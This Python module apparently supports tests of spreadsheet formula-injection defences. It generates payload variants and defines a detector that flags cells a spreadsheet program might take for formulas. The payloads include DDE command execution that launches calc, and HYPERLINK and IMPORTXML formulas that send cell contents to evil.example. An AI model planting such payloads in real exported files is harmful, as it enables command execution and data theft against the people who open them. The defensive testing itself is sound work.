"""Texts that spreadsheet programs take for formulas, and a judge that knows none of our code."""

import unicodedata

_HEADS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_BEFORE = ("", " ", "   ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\ufeff", "\u200b", "\x00")
_BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "SUM(A1:A9)*cmd|' /C calc'!A0",
    "IMPORTXML(CONCAT(\"http://evil.example/\",A2),\"//a\")",
)  # fmt: skip

PAYLOADS = tuple(before + head + body for before in _BEFORE for head in _HEADS for body in _BODIES)


def is_formula(cell: str) -> bool:
    """Return whether a program might take a cell for a formula. Control signs and blanks before it
    are dropped; full width is folded."""
    if cell.startswith(("\t", "\r", "\n")):
        return True
    seen = unicodedata.normalize("NFKC", cell)
    while seen and (unicodedata.category(seen[0]) in ("Cc", "Cf") or seen[0].isspace()):
        seen = seen[1:]
    return seen.startswith(("=", "+", "-", "@"))
